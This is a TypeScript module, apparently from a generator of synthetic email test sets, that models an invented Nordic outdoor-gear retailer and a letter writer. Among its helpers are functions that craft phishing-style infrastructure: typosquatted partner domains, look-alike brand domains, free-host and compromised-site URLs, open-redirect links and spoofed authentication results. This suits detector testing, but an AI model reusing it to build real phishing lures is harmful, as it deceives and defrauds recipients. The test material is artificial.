// The scene of the twenty-third unseen set: Fjällspår AB, an online retailer of outdoor gear (corp.example),
// head office and warehouse in Gothenburg, shops in Copenhagen and Oslo, customer service in Helsinki. Its
// people and partners, small random helpers drawn from a SeededRandom, a letter writer (HTML and text), the
// inert attachments its mail carries, and the RFC 5322 writer that turns a Mail into the bytes a mailbox
// receives; runTemplates draws each template's messages from their own seed.
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import type { SeededRandom } from './generate.js';
import { storedZip } from './mime.js';

export type { SeededRandom };

// ---------------------------------------------------------------------------------------------------------
// The organisation

export const DOMAIN = 'corp.example';
export const COMPANY = 'Fjällspår AB';

export interface Person {
  first: string;
  last: string;
  title: string;
  titleEn: string;
  dept: string;
  city: 'Göteborg' | 'København' | 'Oslo' | 'Helsinki';
  phone: string;
  lang: 'sv' | 'da' | 'no' | 'fi';
}

const P = (
  first: string,
  last: string,
  title: string,
  titleEn: string,
  dept: string,
  city: Person['city'],
  phone: string,
  lang: Person['lang'] = 'sv',
): Person => ({ first, last, title, titleEn, dept, city, phone, lang });

export const CEO = P('Karin', 'Lindqvist', 'VD', 'CEO', 'management', 'Göteborg', '+46 70 412 88 31');
export const CFO = P('Mikael', 'Berg', 'Ekonomichef', 'CFO', 'finance', 'Göteborg', '+46 31 760 42 10');
export const AP = P(
  'Sara',
  'Nyström',
  'Leverantörsreskontra',
  'Accounts payable',
  'finance',
  'Göteborg',
  '+46 31 760 42 14',
);
export const CONTROLLER = P(
  'Sofia',
  'Andersson',
  'Controller',
  'Financial controller',
  'finance',
  'Göteborg',
  '+46 31 760 42 12',
);
export const ECOM = P(
  'Jonas',
  'Ek',
  'E-handelschef',
  'Head of e-commerce',
  'ecommerce',
  'Göteborg',
  '+46 31 760 42 20',
);
export const MARKETPLACES = P(
  'Emil',
  'Johansson',
  'Marknadsplatsansvarig',
  'Marketplace manager',
  'ecommerce',
  'Göteborg',
  '+46 31 760 42 23',
);
export const MARKETING = P(
  'Elin',
  'Sjöberg',
  'Marknadschef',
  'Head of marketing',
  'marketing',
  'Göteborg',
  '+46 31 760 42 30',
);
export const INFLUENCER = P(
  'Tove',
  'Axelsson',
  'Influencer- och PR-ansvarig',
  'Influencer & PR lead',
  'marketing',
  'Göteborg',
  '+46 31 760 42 34',
);
export const HR = P('Maria', 'Holm', 'HR-chef', 'HR manager', 'hr', 'Göteborg', '+46 31 760 42 40');
export const IT = P('Daniel', 'Fors', 'IT-ansvarig', 'IT manager', 'it', 'Göteborg', '+46 31 760 42 50');
export const WAREHOUSE = P(
  'Patrik',
  'Olsson',
  'Lagerchef',
  'Warehouse manager',
  'warehouse',
  'Göteborg',
  '+46 31 760 42 60',
);
export const LOGISTICS = P(
  'Ahmed',
  'Hassan',
  'Logistiksamordnare',
  'Logistics coordinator',
  'warehouse',
  'Göteborg',
  '+46 31 760 42 62',
);
export const CS_LEAD = P(
  'Aino',
  'Virtanen',
  'Asiakaspalvelupäällikkö',
  'Customer service lead',
  'customer-service',
  'Helsinki',
  '+358 9 4245 1180',
  'fi',
);
export const CS_FI = P(
  'Jussi',
  'Korhonen',
  'Asiakaspalvelija',
  'Customer service agent',
  'customer-service',
  'Helsinki',
  '+358 9 4245 1183',
  'fi',
);
export const CS_SV = P(
  'Lina',
  'Karlsson',
  'Kundtjänst',
  'Customer service agent',
  'customer-service',
  'Göteborg',
  '+46 31 760 42 70',
);
export const CPH = P(
  'Mette',
  'Kjær',
  'Butikschef',
  'Store manager',
  'retail',
  'København',
  '+45 33 12 47 90',
  'da',
);
export const CPH2 = P(
  'Freja',
  'Nielsen',
  'Salgsassistent',
  'Sales assistant',
  'retail',
  'København',
  '+45 33 12 47 91',
  'da',
);
export const OSLO = P(
  'Ingrid',
  'Haugen',
  'Butikksjef',
  'Store manager',
  'retail',
  'Oslo',
  '+47 22 41 83 60',
  'no',
);
export const OSLO2 = P(
  'Henrik',
  'Dahl',
  'Butikkmedarbeider',
  'Sales assistant',
  'retail',
  'Oslo',
  '+47 22 41 83 61',
  'no',
);

export const PEOPLE: readonly Person[] = [
  CEO,
  CFO,
  AP,
  CONTROLLER,
  ECOM,
  MARKETPLACES,
  MARKETING,
  INFLUENCER,
  HR,
  IT,
  WAREHOUSE,
  LOGISTICS,
  CS_LEAD,
  CS_FI,
  CS_SV,
  CPH,
  CPH2,
  OSLO,
  OSLO2,
];

export const FINANCE: readonly Person[] = [CFO, AP, CONTROLLER];
export const ECOMMERCE: readonly Person[] = [ECOM, MARKETPLACES];
export const MARKETERS: readonly Person[] = [MARKETING, INFLUENCER, ECOM];
export const SWEDES: readonly Person[] = PEOPLE.filter((p) => p.lang === 'sv');

/** The mailbox part of a name, as the tenant writes it: lower case, Nordic letters folded. */
export function ascii(s: string): string {
  return s
    .toLowerCase()
    .replace(/[åä]/g, 'a')
    .replace(/[öø]/g, 'o')
    .replace(/æ/g, 'ae')
    .replace(/é/g, 'e')
    .replace(/[^a-z0-9.-]/g, '');
}

export function emailOf(p: Person): string {
  return `${ascii(p.first)}.${ascii(p.last)}@${DOMAIN}`;
}

export function addr(p: Person): Addr {
  return { name: `${p.first} ${p.last}`, address: emailOf(p) };
}

export function full(p: Person): string {
  return `${p.first} ${p.last}`;
}

/** The shared mailboxes. */
export const BOX = {
  ap: { name: 'Fjällspår Leverantörsfakturor', address: `leverantorsfakturor@${DOMAIN}` },
  finance: { name: 'Fjällspår Ekonomi', address: `ekonomi@${DOMAIN}` },
  cs: { name: 'Fjällspår Kundservice', address: `kundservice@${DOMAIN}` },
  orders: { name: 'Fjällspår Order', address: `order@${DOMAIN}` },
  ecom: { name: 'Fjällspår E-handel', address: `ehandel@${DOMAIN}` },
  marketing: { name: 'Fjällspår Marketing', address: `marketing@${DOMAIN}` },
  press: { name: 'Fjällspår Press', address: `press@${DOMAIN}` },
  info: { name: 'Fjällspår', address: `info@${DOMAIN}` },
  it: { name: 'Fjällspår IT', address: `it@${DOMAIN}` },
  hr: { name: 'Fjällspår HR', address: `hr@${DOMAIN}` },
  warehouse: { name: 'Fjällspår Lager', address: `lager@${DOMAIN}` },
  cph: { name: 'Fjällspår København', address: `kobenhavn@${DOMAIN}` },
  oslo: { name: 'Fjällspår Oslo', address: `oslo@${DOMAIN}` },
  helsinki: { name: 'Fjällspår Asiakaspalvelu', address: `asiakaspalvelu@${DOMAIN}` },
} as const;

export const ORG = {
  orgNo: '556812-4471',
  vat: 'SE556812447101',
  address: 'Lindholmsallén 17, 417 55 Göteborg',
  warehouse: 'Ringögatan 32, 417 07 Göteborg',
  cphShop: 'Frederiksborggade 22, 1360 København K',
  osloShop: 'Akersgata 45, 0158 Oslo',
  helsinki: 'Mannerheimintie 12 B, 00100 Helsinki',
  bankgiro: '5432-1187',
  shopDomain: 'fjallspar.example',
  tenant: 'fjallspar.onmicrosoft.com',
};

/** Suppliers and partners of the trade (invented companies, their own domains). */
export const SUPPLIERS = [
  {
    name: 'Lyngentind Tekstil AS',
    domain: 'lyngentind-tekstil.no',
    contact: 'Kari Solberg',
    country: 'NO',
    iban: 'NO93 8601 1117 947',
    bank: 'DNB',
  },
  {
    name: 'Bergmann Outdoor GmbH',
    domain: 'bergmann-outdoor.de',
    contact: 'Tobias Wendt',
    country: 'DE',
    iban: 'DE44 5001 0517 5407 3249 31',
    bank: 'Commerzbank',
  },
  {
    name: 'Ningbo Hengtai Outdoor Products Co., Ltd.',
    domain: 'hengtai-outdoor.com',
    contact: 'Cindy Zhou',
    country: 'CN',
    iban: '',
    bank: 'Bank of China, Ningbo Branch',
  },
  {
    name: 'Xiamen Bluepeak Textile Co., Ltd.',
    domain: 'bluepeak-textile.com',
    contact: 'Kevin Lin',
    country: 'CN',
    iban: '',
    bank: 'Industrial and Commercial Bank of China',
  },
  {
    name: 'Allgäu Bergsport Handels GmbH',
    domain: 'allgaeu-bergsport.de',
    contact: 'Stefanie Huber',
    country: 'DE',
    iban: 'DE12 7335 0000 0514 2203 18',
    bank: 'Sparkasse Allgäu',
  },
  {
    name: 'Vesterålen Ull AS',
    domain: 'vesteralen-ull.no',
    contact: 'Ole Martin Berntsen',
    country: 'NO',
    iban: 'NO28 1503 4421 870',
    bank: 'SpareBank 1 Nord-Norge',
  },
] as const;
export type Supplier = (typeof SUPPLIERS)[number];

export const PRODUCTS = [
  { sv: 'Vandringsjacka Kebne GTX', en: 'Kebne GTX hiking jacket', price: 3299 },
  { sv: 'Tält Sarek 2P', en: 'Sarek 2P tent', price: 5490 },
  { sv: 'Dunsovsäck Abisko -15', en: 'Abisko -15 down sleeping bag', price: 4195 },
  { sv: 'Ryggsäck Padjelanta 45 L', en: 'Padjelanta 45 L backpack', price: 1895 },
  { sv: 'Merinoställ Tarfala', en: 'Tarfala merino base layer set', price: 1249 },
  { sv: 'Vandringskängor Sylarna Mid', en: 'Sylarna Mid hiking boots', price: 2495 },
  { sv: 'Stormkök Vindel', en: 'Vindel storm cooker', price: 1095 },
  { sv: 'Skaloverdragsbyxor Lapporten', en: 'Lapporten shell trousers', price: 2199 },
  { sv: 'Pannlampa Midnattsol 600', en: 'Midnattsol 600 head torch', price: 649 },
  { sv: 'Fleecetröja Rapadalen', en: 'Rapadalen fleece', price: 899 },
] as const;
export type Product = (typeof PRODUCTS)[number];

// Customers who write in (invented people on common mail services).
export const CUSTOMERS_SV = [
  ['Johanna', 'Lindberg'],
  ['Anders', 'Wikström'],
  ['Fredrik', 'Sundqvist'],
  ['Malin', 'Ekholm'],
  ['Erik', 'Åberg'],
  ['Hanna', 'Bergström'],
  ['Peter', 'Nordin'],
  ['Sanna', 'Öhman'],
] as const;
export const CUSTOMERS_EN = [
  ['James', 'Whitfield'],
  ['Laura', 'Bennett'],
  ['Markus', 'Schneider'],
  ['Chloé', 'Martin'],
  ['Daniel', 'Okafor'],
  ['Sophie', 'van Dijk'],
] as const;
export const CONSUMER_MAIL = [
  'gmail.com',
  'hotmail.com',
  'outlook.com',
  'icloud.com',
  'yahoo.com',
  'live.se',
];
export const FREEMAIL = ['gmail.com', 'outlook.com', 'hotmail.com', 'proton.me', 'gmx.com', 'yahoo.com'];

// ---------------------------------------------------------------------------------------------------------
// Random helpers

export function int(r: SeededRandom, lo: number, hi: number): number {
  return lo + r.below(hi - lo + 1);
}

export function chance(r: SeededRandom, p: number): boolean {
  return r.below(10000) < p * 10000;
}

export function pick<T>(r: SeededRandom, list: readonly T[]): T {
  return list[r.below(list.length)];
}

export function pickSome<T>(r: SeededRandom, list: readonly T[], n: number): T[] {
  const copy = [...list];
  const out: T[] = [];
  while (out.length < n && copy.length > 0) out.push(copy.splice(r.below(copy.length), 1)[0]);
  return out;
}

const ALNUM = 'abcdefghijklmnopqrstuvwxyz0123456789';
const HEX = '0123456789abcdef';
const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
const UPPER = 'ABCDEFGHJKLMNPQRSTUVWXYZ23456789';

export function token(r: SeededRandom, n: number, alphabet = ALNUM): string {
  let s = '';
  for (let i = 0; i < n; i++) s += alphabet[r.below(alphabet.length)];
  return s;
}
export const hex = (r: SeededRandom, n: number) => token(r, n, HEX);
export const upper = (r: SeededRandom, n: number) => token(r, n, UPPER);
export const digits = (r: SeededRandom, n: number) => token(r, n, '0123456789');
export const b64ish = (r: SeededRandom, n: number) => token(r, n, B64);
export const urlsafe = (r: SeededRandom, n: number) =>
  token(r, n, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_');

export function uuid(r: SeededRandom): string {
  return `${hex(r, 8)}-${hex(r, 4)}-4${hex(r, 3)}-${pick(r, ['8', '9', 'a', 'b'])}${hex(r, 3)}-${hex(r, 12)}`;
}

export function ip(r: SeededRandom, prefix?: string): string {
  const first = prefix ?? pick(r, ['45.', '91.', '185.', '193.', '194.', '80.', '62.', '5.', '176.', '212.']);
  const need = 4 - first.split('.').filter(Boolean).length;
  const rest = Array.from({ length: need }, () => String(int(r, 1, 254)));
  return first + rest.join('.');
}

export function phoneSe(r: SeededRandom, mobile = true): string {
  return mobile
    ? `+46 7${pick(r, ['0', '2', '3', '6'])} ${digits(r, 3)} ${digits(r, 2)} ${digits(r, 2)}`
    : `0${pick(r, ['8', '31', '10', '20', '771'])}-${digits(r, 3)} ${digits(r, 2)} ${digits(r, 2)}`;
}

export function orderNo(r: SeededRandom): string {
  return `FS${int(r, 100000, 189999)}`;
}

export function product(r: SeededRandom): Product {
  return pick(r, PRODUCTS);
}

export function customer(r: SeededRandom, lang: 'sv' | 'en'): { name: string; address: string } {
  const [f, l] = lang === 'sv' ? pick(r, CUSTOMERS_SV) : pick(r, CUSTOMERS_EN);
  const local = pick(r, [
    `${ascii(f)}.${ascii(l)}`,
    `${ascii(f)}${ascii(l)}${int(r, 1, 99)}`,
    `${ascii(f)[0]}${ascii(l)}`,
    `${ascii(f)}_${ascii(l).replace(/\s/g, '')}`,
  ]).replace(/\s/g, '');
  return { name: `${f} ${l}`, address: `${local}@${pick(r, CONSUMER_MAIL)}` };
}

// Dates: 2025 and 2026, on working days mostly in working hours.
const START = Date.UTC(2025, 1, 3);
const SPAN_DAYS = 600;

export function randomDate(r: SeededRandom): Date {
  const d = new Date(START + r.below(SPAN_DAYS) * 86400000);
  const dow = d.getUTCDay();
  if ((dow === 0 || dow === 6) && chance(r, 0.8)) d.setUTCDate(d.getUTCDate() + (dow === 6 ? 2 : 1));
  d.setUTCHours(int(r, 5, 15), r.below(60), r.below(60));
  return d;
}

export function addDays(d: Date, n: number): Date {
  return new Date(d.getTime() + n * 86400000);
}

const MONTHS: Record<string, readonly string[]> = {
  sv: [
    'januari',
    'februari',
    'mars',
    'april',
    'maj',
    'juni',
    'juli',
    'augusti',
    'september',
    'oktober',
    'november',
    'december',
  ],
  en: [
    'January',
    'February',
    'March',
    'April',
    'May',
    'June',
    'July',
    'August',
    'September',
    'October',
    'November',
    'December',
  ],
  da: [
    'januar',
    'februar',
    'marts',
    'april',
    'maj',
    'juni',
    'juli',
    'august',
    'september',
    'oktober',
    'november',
    'december',
  ],
  no: [
    'januar',
    'februar',
    'mars',
    'april',
    'mai',
    'juni',
    'juli',
    'august',
    'september',
    'oktober',
    'november',
    'desember',
  ],
  fi: [
    'tammikuuta',
    'helmikuuta',
    'maaliskuuta',
    'huhtikuuta',
    'toukokuuta',
    'kesäkuuta',
    'heinäkuuta',
    'elokuuta',
    'syyskuuta',
    'lokakuuta',
    'marraskuuta',
    'joulukuuta',
  ],
};

export type Lang = 'sv' | 'en' | 'da' | 'no' | 'fi';

export function monthName(d: Date, lang: Lang): string {
  return MONTHS[lang][d.getUTCMonth()];
}

/** A date as a person of the language writes it in a letter. */
export function day(d: Date, lang: Lang, numeric = false): string {
  const y = d.getUTCFullYear();
  const m = d.getUTCMonth() + 1;
  const dd = d.getUTCDate();
  const two = (n: number) => String(n).padStart(2, '0');
  if (numeric) {
    if (lang === 'sv') return `${y}-${two(m)}-${two(dd)}`;
    if (lang === 'en') return `${two(dd)}/${two(m)}/${y}`;
    return `${two(dd)}.${two(m)}.${y}`;
  }
  if (lang === 'en') return `${dd} ${MONTHS.en[m - 1]} ${y}`;
  if (lang === 'sv') return `${dd} ${MONTHS.sv[m - 1]} ${y}`;
  if (lang === 'fi') return `${dd}.${m}.${y}`;
  return `${dd}. ${MONTHS[lang][m - 1]} ${y}`;
}

/** Money as the language writes it. */
export function money(n: number, currency: string, lang: Lang): string {
  const fixed = n.toFixed(2);
  const [whole, cents] = fixed.split('.');
  const group = (sep: string) => whole.replace(/\B(?=(\d{3})+(?!\d))/g, sep);
  if (lang === 'en') {
    const sym: Record<string, string> = { EUR: '€', USD: '$', GBP: '£' };
    return sym[currency] ? `${sym[currency]}${group(',')}.${cents}` : `${currency} ${group(',')}.${cents}`;
  }
  if (lang === 'da') return `${group('.')},${cents} ${currency === 'DKK' ? 'kr.' : currency}`;
  const krona = (lang === 'sv' && currency === 'SEK') || (lang === 'no' && currency === 'NOK');
  if (currency === 'EUR' && lang === 'fi') return `${group(' ')},${cents} €`;
  return `${group(' ')},${cents} ${krona ? 'kr' : currency}`;
}

export function amount(r: SeededRandom, lo: number, hi: number, cents = true): number {
  const whole = int(r, lo, hi);
  return cents ? whole + r.below(100) / 100 : whole;
}

// ---------------------------------------------------------------------------------------------------------
// Hosts an attacker would use: look-alikes are written per template; these are the abused free hosts.

export function freeHost(r: SeededRandom, slug: string): string {
  const s = `${slug}-${token(r, int(r, 3, 6))}`;
  return pick(r, [
    `https://${s}.pages.dev/`,
    `https://${s}.netlify.app/`,
    `https://${s}.vercel.app/`,
    `https://${s}.web.app/`,
    `https://${s}.firebaseapp.com/`,
    `https://pub-${hex(r, 32)}.r2.dev/${slug}/`,
    `https://${s}.workers.dev/`,
    `https://sites.google.com/view/${s}/`,
    `https://${s}.weebly.com/`,
    `https://${s}.glitch.me/`,
    `https://storage.googleapis.com/${s}/`,
    `https://${s}.onrender.com/`,
  ]);
}

/** A small business's site someone broke into, a path under its CMS. */
export function compromisedSite(r: SeededRandom): string {
  const host = pick(r, [
    'tandvardlillgatan.se',
    'pizzeriasjostjarnan.com',
    'autodelar-mh.se',
    'hundfrisor-bella.se',
    'kroatien-resor24.com',
    'bygg-jansson-ab.se',
    'ferienhaus-mooswiese.de',
    'constructora-arenal.com.mx',
    'studio-kalinka.pl',
    'greenleaf-landscaping.co.za',
    'tierarzt-am-bach.de',
    'bakeri-solsikken.no',
  ]);
  const path = pick(r, [
    `wp-content/uploads/${int(r, 2021, 2025)}/${String(int(r, 1, 12)).padStart(2, '0')}/${token(r, 6)}/`,
    `wp-includes/css/${token(r, 5)}/`,
    `.well-known/${token(r, 8)}/`,
    `components/com_${token(r, 5)}/`,
    `cgi-bin/${token(r, 4)}/`,
  ]);
  return `https://www.${host}/${path}`;
}

export function shortLink(r: SeededRandom): string {
  return pick(r, [
    `https://bit.ly/${urlsafe(r, 7)}`,
    `https://tinyurl.com/${token(r, 8)}`,
    `https://t.ly/${urlsafe(r, 5)}`,
    `https://rb.gy/${token(r, 6)}`,
    `https://is.gd/${urlsafe(r, 6)}`,
  ]);
}

/** A redirect through a well-known site's open redirector or click tracker to `to`. */
export function redirectVia(r: SeededRandom, to: string): string {
  const e = encodeURIComponent(to);
  return pick(r, [
    `https://www.google.com/url?q=${e}&sa=D&source=editors&ust=${digits(r, 16)}&usg=AOvVaw${urlsafe(r, 22)}`,
    `https://www.bing.com/ck/a?!&&p=${hex(r, 48)}&ptn=3&ver=2&u=a1${Buffer.from(to).toString('base64url')}&ntb=1`,
    `https://l.facebook.com/l.php?u=${e}&h=AT${urlsafe(r, 30)}`,
    `https://click.pstmrk.it/3s/${e}/${urlsafe(r, 12)}`,
  ]);
}

// ---------------------------------------------------------------------------------------------------------
// The mail

export interface Addr {
  name?: string;
  address: string;
}

export interface Attachment {
  filename: string;
  type: string;
  content: Buffer;
  /** Shown in the HTML body by cid: rather than attached. */
  cid?: string;
}

export interface Auth {
  spf: 'pass' | 'fail' | 'softfail' | 'neutral' | 'none' | 'temperror';
  dkim: 'pass' | 'fail' | 'none';
  dmarc: 'pass' | 'fail' | 'none' | 'bestguesspass';
  /** The d= of the signature when it is not the From domain (an ESP's own). */
  dkimDomain?: string;
  /** DMARC policy of the From domain, as the MTA reports it. */
  policy?: 'none' | 'quarantine' | 'reject';
}

/** The sending infrastructure, which shapes Received, Message-ID and boundaries. */
export type Via =
  | 'gmail'
  | 'outlook-consumer'
  | 'm365'
  | 'ses'
  | 'sendgrid'
  | 'mailchimp'
  | 'salesforce'
  | 'direct'
  | 'vps'
  | 'google-workspace'
  | 'apple'
  | 'internal';

export interface Mail {
  from: Addr;
  to?: Addr | readonly Addr[];
  cc?: readonly Addr[];
  replyTo?: Addr;
  /** The envelope sender; null for none written. Defaults to the From address. */
  returnPath?: string | null;
  subject: string;
  date?: Date;
  /** Minutes east of UTC for the Date header; defaults to Central European time. */
  tz?: number;
  text?: string;
  html?: string;
  attachments?: readonly Attachment[];
  /** null: no Authentication-Results (the MTA did not stamp it). */
  auth?: Auth | null;
  via?: Via;
  /** Overrides the sending host of the Received line. */
  relay?: { host: string; ip: string };
  headers?: readonly (readonly [string, string])[];
  charset?: 'utf-8' | 'iso-8859-1' | 'windows-1252';
  encoding?: 'quoted-printable' | 'base64' | '8bit';
  inReplyTo?: string;
  references?: readonly string[];
  /** Language tag for Content-Language, where senders set it. */
  lang?: Lang;
}

export const PASS: Auth = { spf: 'pass', dkim: 'pass', dmarc: 'pass' };
export function auth(
  spf: Auth['spf'],
  dkim: Auth['dkim'],
  dmarc: Auth['dmarc'],
  extra: Partial<Auth> = {},
): Auth {
  return { spf, dkim, dmarc, ...extra };
}
/** A message that claims a real brand's address from elsewhere. */
export function spoofed(r: SeededRandom): Auth {
  return pick(r, [
    auth('fail', 'none', 'fail', { policy: 'reject' }),
    auth('softfail', 'none', 'fail', { policy: 'quarantine' }),
    auth('fail', 'fail', 'fail', { policy: 'reject' }),
    auth('none', 'none', 'fail', { policy: 'quarantine' }),
  ]);
}
/** A domain the attacker registered and set up: it passes, with no or a lax DMARC record sometimes. */
export function registered(r: SeededRandom): Auth | null {
  return pick<Auth | null>(r, [
    PASS,
    PASS,
    auth('pass', 'pass', 'none'),
    auth('pass', 'none', 'none'),
    auth('pass', 'pass', 'pass', { policy: 'none' }),
    null,
  ]);
}

/** A freshly registered look-alike domain, as attackers build them from a brand and a word. */
export function lookalike(
  r: SeededRandom,
  brand: string,
  words: readonly string[],
  tlds?: readonly string[],
) {
  const w = pick(r, words);
  const t = pick(r, tlds ?? ['com', 'net', 'info', 'online', 'support', 'help', 'site', 'live', 'top']);
  return pick(r, [
    `${brand}-${w}.${t}`,
    `${w}-${brand}.${t}`,
    `${brand}${w}.${t}`,
    `${brand}-${w}${int(r, 2, 99)}.${t}`,
  ]);
}

/** A domain one or two characters away from a partner's own, always different from it. */
export function partnerLookalike(r: SeededRandom, domain: string): string {
  const dot = domain.indexOf('.');
  const name = domain.slice(0, dot);
  const tld = domain.slice(dot + 1);
  const glyph = (): string => {
    for (const [a, b] of [
      ['l', '1'],
      ['i', 'l'],
      ['o', '0'],
      ['m', 'rn'],
      ['e', 'a'],
    ] as const) {
      const at = name.lastIndexOf(a);
      if (at > 0) return `${name.slice(0, at)}${b}${name.slice(at + 1)}.${tld}`;
    }
    return `${name}${name.slice(-1)}.${tld}`;
  };
  return pick(r, [
    `${name}s.${tld}`,
    `${name}.${tld === 'com' ? 'com.cn' : 'com'}`,
    name.includes('-') ? `${name.replace(/-/g, '')}.${tld}` : `${name}-${tld}.com`,
    `${name}-${pick(r, ['ltd', 'group', 'trade', 'export', 'as', 'gmbh'])}.${tld}`,
    glyph(),
  ]);
}

export function domainOf(address: string): string {
  return address.slice(address.lastIndexOf('@') + 1).toLowerCase();
}

/**
 * Legitimate mail as an MTA really sees it: most passes, but some arrives unstamped, forwarded (SPF broken,
 * DKIM intact) or unsigned with SPF alone. Leaves a template's own choice of authentication alone.
 */
export function asReceived(t: Template): Template {
  return {
    kind: t.kind,
    name: t.name,
    async make(r) {
      const mail = await t.make(r);
      if (mail.auth !== undefined) return mail;
      const x = r.below(100);
      const a: Auth | null | undefined =
        x < 76
          ? undefined
          : x < 84
            ? null
            : x < 90
              ? auth('softfail', 'pass', 'pass')
              : x < 95
                ? auth('pass', 'none', 'pass')
                : auth('neutral', 'pass', 'pass');
      return a === undefined ? mail : { ...mail, auth: a };
    },
  };
}

// ---------------------------------------------------------------------------------------------------------
// The letter writer

export type Block =
  | string
  | { button: { label: string; href: string; color?: string } }
  | { rows: readonly (readonly [string, string])[] }
  | { img: { cid: string; alt: string; width?: number } }
  | { small: string }
  | { quote: { head: string; text: string } }
  | { heading: string }
  | { list: readonly string[] };

export interface LetterSpec {
  /** branded: a service's HTML mail; outlook / gmail / apple: a person's client; plain: bare markup. */
  style: 'branded' | 'outlook' | 'gmail' | 'apple' | 'plain';
  parts: 'html' | 'text' | 'both';
  blocks: readonly Block[];
  brand?: string;
  color?: string;
  lang?: Lang;
  preheader?: string;
  footer?: readonly string[];
  /** An open-tracking image's URL. */
  pixel?: string;
}

export function esc(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

const LINK = /\[([^\]]+)\]\(([^)\s]+)\)/g;

function inlineHtml(s: string): string {
  return esc(s)
    .replace(LINK, (_m, label: string, href: string) => `<a href="${href}">${label}</a>`)
    .replace(/\*\*([^*]+)\*\*/g, '<strong>$1</strong>')
    .replace(/\n/g, '<br>\n');
}

function inlineText(s: string): string {
  return s
    .replace(LINK, (_m, label: string, href: string) => (label === href ? href : `${label} <${href}>`))
    .replace(/\*\*([^*]+)\*\*/g, '$1');
}

function blockHtml(b: Block, style: LetterSpec['style'], color: string): string {
  const p =
    style === 'outlook'
      ? '<p class="MsoNormal">'
      : style === 'branded'
        ? '<p style="margin:0 0 16px 0;">'
        : '<div>';
  const pEnd = style === 'outlook' || style === 'branded' ? '</p>' : '</div>';
  if (typeof b === 'string')
    return `${p}${inlineHtml(b)}${pEnd}${style === 'gmail' || style === 'apple' ? '<div><br></div>' : ''}`;
  if ('button' in b)
    return (
      `<table role="presentation" cellspacing="0" cellpadding="0" border="0" style="margin:8px 0 24px 0;"><tr>` +
      `<td style="border-radius:4px;background:${b.button.color ?? color};">` +
      `<a href="${b.button.href}" target="_blank" style="display:inline-block;padding:12px 26px;font-weight:bold;` +
      `color:#ffffff;text-decoration:none;font-family:Arial,sans-serif;font-size:15px;">${esc(b.button.label)}</a>` +
      `</td></tr></table>`
    );
  if ('rows' in b)
    return (
      `<table cellpadding="4" cellspacing="0" border="0" style="border-collapse:collapse;margin:0 0 16px 0;font-size:14px;">` +
      b.rows
        .map(
          ([k, v]) =>
            `<tr><td style="color:#555555;padding-right:18px;vertical-align:top;">${esc(k)}</td>` +
            `<td style="font-weight:bold;">${inlineHtml(v)}</td></tr>`,
        )
        .join('') +
      '</table>'
    );
  if ('img' in b)
    return `<p><img src="cid:${b.img.cid}" alt="${esc(b.img.alt)}" width="${b.img.width ?? 220}" style="display:block;"></p>`;
  if ('small' in b) return `<p style="font-size:11px;color:#777777;">${inlineHtml(b.small)}</p>`;
  if ('heading' in b) return `<h2 style="font-size:20px;margin:0 0 14px 0;">${inlineHtml(b.heading)}</h2>`;
  if ('list' in b) return `<ul>${b.list.map((i) => `<li>${inlineHtml(i)}</li>`).join('')}</ul>`;
  if (style === 'outlook')
    return (
      '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">' +
      `<p class="MsoNormal"><b>${inlineHtml(b.quote.head)}</b></p></div>` +
      `<div>${inlineHtml(b.quote.text)}</div>`
    );
  return (
    `<div class="gmail_quote"><div dir="ltr" class="gmail_attr">${inlineHtml(b.quote.head)}<br></div>` +
    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">' +
    `${inlineHtml(b.quote.text)}</blockquote></div>`
  );
}

function blockText(b: Block): string {
  if (typeof b === 'string') return inlineText(b);
  if ('button' in b) return `${b.button.label}: ${b.button.href}`;
  if ('rows' in b) return b.rows.map(([k, v]) => `${k}: ${inlineText(v)}`).join('\n');
  if ('img' in b) return `[${b.img.alt}]`;
  if ('small' in b) return inlineText(b.small);
  if ('heading' in b) return inlineText(b.heading).toUpperCase();
  if ('list' in b) return b.list.map((i) => `- ${inlineText(i)}`).join('\n');
  return `${inlineText(b.quote.head)}\n${inlineText(b.quote.text)
    .split('\n')
    .map((l) => (l ? `> ${l}` : '>'))
    .join('\n')}`;
}

/** A letter as HTML, text or both. */
export function letter(spec: LetterSpec): { html?: string; text?: string } {
  const color = spec.color ?? '#1a4d8f';
  const lang = spec.lang ?? 'en';
  const text = [...spec.blocks.map(blockText), ...(spec.footer ?? []).map(inlineText)].join('\n\n');
  let html: string;
  const body = spec.blocks.map((b) => blockHtml(b, spec.style, color)).join('\n');
  if (spec.style === 'branded') {
    html =
      `<!DOCTYPE html>\n<html lang="${lang}"><head><meta charset="utf-8">` +
      '<meta name="viewport" content="width=device-width, initial-scale=1">' +
      `<title>${esc(spec.brand ?? '')}</title></head>\n` +
      '<body style="margin:0;padding:0;background:#f2f4f6;">\n' +
      (spec.preheader
        ? `<div style="display:none;max-height:0;overflow:hidden;">${esc(spec.preheader)}</div>\n`
        : '') +
      '<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" style="background:#f2f4f6;"><tr><td align="center">\n' +
      '<table role="presentation" width="600" cellspacing="0" cellpadding="0" border="0" style="background:#ffffff;margin:24px 0;">\n' +
      `<tr><td style="background:${color};padding:18px 32px;font-family:Arial,sans-serif;font-size:22px;font-weight:bold;color:#ffffff;">${esc(spec.brand ?? '')}</td></tr>\n` +
      `<tr><td style="padding:28px 32px;font-family:Arial,Helvetica,sans-serif;font-size:15px;line-height:22px;color:#222222;">\n${body}\n</td></tr>\n` +
      (spec.footer?.length
        ? `<tr><td style="padding:18px 32px;font-family:Arial,sans-serif;font-size:11px;line-height:16px;color:#888888;border-top:1px solid #e5e5e5;">${spec.footer.map(inlineHtml).join('<br>\n')}</td></tr>\n`
        : '') +
      '</table>\n</td></tr></table>\n' +
      (spec.pixel ? `<img src="${spec.pixel}" width="1" height="1" alt="" style="display:none;">\n` : '') +
      '</body></html>';
  } else if (spec.style === 'outlook') {
    html =
      '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ' +
      'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" ' +
